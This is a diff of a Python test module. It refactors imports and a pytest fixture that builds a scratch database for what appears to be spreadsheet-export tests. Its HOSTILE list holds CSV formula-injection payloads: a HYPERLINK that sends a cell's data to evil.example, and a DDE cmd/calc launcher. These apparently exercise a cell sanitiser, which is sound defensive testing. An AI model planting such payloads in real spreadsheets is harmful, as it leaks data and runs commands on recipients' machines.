@@ -12,18 +12,14 @@ from sqlalchemy import text
 
 from layers.access.audit import cli_principal
 from layers.cases import routing
-from layers.demo.city import generate
 from layers.demo.register import load as load_register
-from layers.interchange.importer import write_validated
 from layers.interchange.spreadsheet import read_cell, safe_cell
 from layers.locating.bulk import locate_csv
 from layers.locating.locators import LocatorRegistry
 from layers.register import keys
 from layers.register.crypto import PersonalData, _decode
 from layers.storage.db import session_scope
-from tests.conftest import TEST_REGISTER_KEY, scratch_database
-from tests.test_boundary import BOUNDARY
-from tests.test_cases import MONDAY_10
+from tests.support import MONDAY_10, TEST_REGISTER_KEY, scratch_database
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&C2,"点击查看")', "@SUM(1)", "+cmd|' /C calc'!A0",
            "-2+3", "\t=1+1"]
@@ -31,10 +27,8 @@ RUNS = ("=", "+", "-", "@", "\t", "\r")
 
 
 @pytest.fixture(scope="module")
-def district(server_url, template_url):
-    city = generate(BOUNDARY, scale=0.05)
-    with scratch_database(server_url, pool_size=2) as (_url, engine):
-        assert write_validated(engine, city).ok
+def district(server_url, city_template):
+    with scratch_database(server_url, pool_size=2, template=city_template) as (_url, engine):
         load_register(engine, PersonalData(_decode(TEST_REGISTER_KEY)), scale=0.05,
                       today=MONDAY_10.date())
         yield engine
